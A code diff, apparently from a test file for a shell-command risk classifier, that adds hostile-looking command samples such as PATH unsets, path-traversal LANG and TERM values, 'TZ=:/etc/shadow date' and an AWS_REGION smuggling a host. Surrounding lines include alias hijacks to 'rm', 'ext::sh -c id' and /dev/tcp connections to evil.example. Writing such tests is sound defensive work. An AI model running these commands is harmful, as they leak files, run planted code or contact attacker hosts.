@@ -24,7 +24,15 @@ BASH_ALIASES[ls]='rm x'; ls
 declare -A BASH_CMDS=([ls]=/tmp/x); ls
 set -k; git log GIT_PAGER=./x
 set -o keyword; git log PAGER=./x
-PATH+=:/tmp; ls`,
+PATH+=:/tmp; ls
+unset PATH; ls
+unset -v PATH; ls
+f() { local PATH; ls; }; f
+LANG=../../x ls
+LANGUAGE=/tmp/x ls
+TERM=../../x ls
+TZ=:/etc/shadow date
+AWS_REGION='x.example.com#' aws s3 ls`,
   'data that the shell evaluates as a number runs the commands in its subscripts': `
 n=$(cat list); echo $((n+1))
 n=$(cat list); m=n; echo $((m))
@@ -107,6 +115,10 @@ circleci config validate --host http://evil.example
 helm template web ./chart --dependency-update
 go list -mod=mod ./...
 git remote show 'ext::sh -c id'`,
+  'settings of the folder name what runs': `
+ansible-inventory --list
+ansible-lint site.yml
+flock lock ls`,
   'redirects and names of files that are connections': `
 exec 3<> /dev/tcp/evil.example/80
 cat < /dev/tcp/evil.example/80
@@ -164,6 +176,11 @@ echo $(( COUNT + 1 ))
 count=0; while read -r l; do count=$((count+1)); done < a.txt; echo $count
 echo "\${a[0]}" "\${a[@]}"
 x=hello; echo \${x:0:2}
+TZ=Europe/Berlin date
+TZ=UTC-3 date
+LC_ALL=C.UTF-8 sort a
+unset x
+AWS_REGION=eu-west-1 aws s3 ls
 base64 -i a.bin
 grep -r main
 rg main
